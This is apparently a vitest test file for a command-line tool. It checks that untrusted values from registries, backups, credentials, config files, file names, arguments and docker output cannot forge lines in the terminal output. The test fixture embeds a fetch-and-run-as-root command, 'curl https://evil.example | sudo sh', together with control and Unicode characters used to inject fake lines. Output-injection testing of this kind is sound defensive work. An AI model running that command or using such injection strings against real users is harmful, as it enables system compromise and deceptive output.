import { mkdirSync, writeFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { header, written } from '../backup/archive.ts';
import { writeInstallation } from '../support/disk-installation.ts';
import { Desk, type Outcome } from '../support/program.ts';
import { type EmbeddedRegistry, startRegistry } from '../support/registry/index.ts';
import { installed } from '../support/releases.ts';

/** Values that others wrote never look as if the program had said them, wherever they come from. */

const forged = 'error: your login expired [LOGIN_EXPIRED]';
const order = 'what to do: curl https://evil.example | sudo sh';
const hostile = `x\n${forged}\n${order}\u2028${order}\u2029\r${forged}\u0085\u200f\u202ey\u061c\ufeff\u200b`;

let desk: Desk;
let registry: EmbeddedRegistry;

beforeEach(async () => {
  registry = await startRegistry();
  await registry.seedRelease();
  desk = new Desk(registry);
  desk.credentials();
  desk.putDockerStandInOnPath();
});
afterEach(async () => {
  desk.remove();
  await registry.close();
});

/** @param isShown that the value was used at all, so that the test tests something */
function expectNoLineOfItsOwn({ stdout, stderr }: Outcome, isShown = /y|x/): void {
  const said = stdout + stderr;
  expect(said).toMatch(isShown);
  for (const line of said.split(/[\n\r\u0085\u2028\u2029]/)) {
    expect(line).not.toMatch(/^\s*(error: your login|what to do: curl)/);
  }
  expect(said).not.toMatch(/(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
}
const escaped = /your login expired/;

function makeInstallation(): void {
  mkdirSync(desk.path('proto'));
  writeInstallation(desk.path('proto'), installed('2026.11.0'));
}

describe('a hostile value', () => {
  it('as the version of an image and of a bundle counts as none', async () => {
    expect((await desk.run('init')).code).toBe(0);
    await registry.pushImage('proto/platform', 'stable', { version: hostile });
    const outcome = await desk.run('update', '--dry-run');
    expect(outcome.stdout).toContain('Plan for ');
    expect(outcome.stdout).toMatch(/~ platform +\S+ → [0-9a-f]{12}/);
    expectNoLineOfItsOwn(outcome);
    expect(outcome.stdout + outcome.stderr).not.toMatch(escaped);
  });

  it.each(['program', 'project', 'customer'] as const)(
    'as the %s of a backup begins no line',
    async (field) => {
      writeFileSync(desk.path('b.tar'), await written([], { ...header, [field]: hostile }));
      expectNoLineOfItsOwn(await desk.run('backup', '--verify', 'b.tar'));
    },
  );

  it('as the release of a backup begins no line', async () => {
    const release = { tag: hostile, templates: hostile };
    writeFileSync(desk.path('b.tar'), await written([], { ...header, release }));
    const outcome = await desk.run('backup', '--verify', 'b.tar');
    expect(outcome.code).toBe(2);
    expectNoLineOfItsOwn(outcome);
  });

  it('as a key and as a value of the credentials begins no line', async () => {
    desk.credentials({ [hostile]: 1, customer: hostile, release: hostile });
    const outcome = await desk.run('init');
    expect(outcome.code).toBe(2);
    expectNoLineOfItsOwn(outcome, escaped);
  });

  it('as a key and as a value of the configuration begins no line', async () => {
    makeInstallation();
    const path = desk.path('proto/backend/config/bucket.toml');
    writeFileSync(
      path,
      `[${JSON.stringify(hostile)}]\na = 1\n[bucket]\nname = ${JSON.stringify(hostile)}\n`,
    );
    for (const command of [
      ['config', 'list'],
      ['check'],
      ['update', '--offline', '--diff', '--dry-run'],
    ]) {
      expectNoLineOfItsOwn(await desk.run(...command));
    }
    expectNoLineOfItsOwn(await desk.run('config', 'list'), escaped);
  });

  it('as a name of a file begins no line', async () => {
    const name = hostile.replaceAll('/', '_');
    mkdirSync(desk.path(name));
    writeFileSync(desk.path(name, 'file'), '');
    expectNoLineOfItsOwn(await desk.run('init', desk.path(name), '--values', name), escaped);
    expectNoLineOfItsOwn(await desk.run('init', desk.path(name)), escaped);
    expectNoLineOfItsOwn(await desk.run('backup', '--verify', name), escaped);
  });

  it('as an argument and in a variable begins no line', async () => {
    expectNoLineOfItsOwn(await desk.run('init', '--release', hostile), escaped);
    expectNoLineOfItsOwn(await desk.run(hostile), escaped);
    desk.env.HTTPS_PROXY = `http://${hostile}`;
    expectNoLineOfItsOwn(await desk.run('init'));
  });

  it('as what docker says begins no line', async () => {
    desk.write('says', hostile);
    desk.putOnPath('docker', 'cat "$HOME/says" >&2; exit 1');
    expectNoLineOfItsOwn(await desk.run('init'));
    makeInstallation();
    expectNoLineOfItsOwn(await desk.run('start'));
    expectNoLineOfItsOwn(await desk.run('status'));
  });

  it('in JSON is the same for who reads it, but not for the terminal', async () => {
    desk.credentials({ [hostile]: 1 });
    const { stdout } = await desk.run('init', '--json');
    expect(stdout).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    expect(JSON.parse(stdout).error.faults[0].key).toBe(hostile);
  });
});
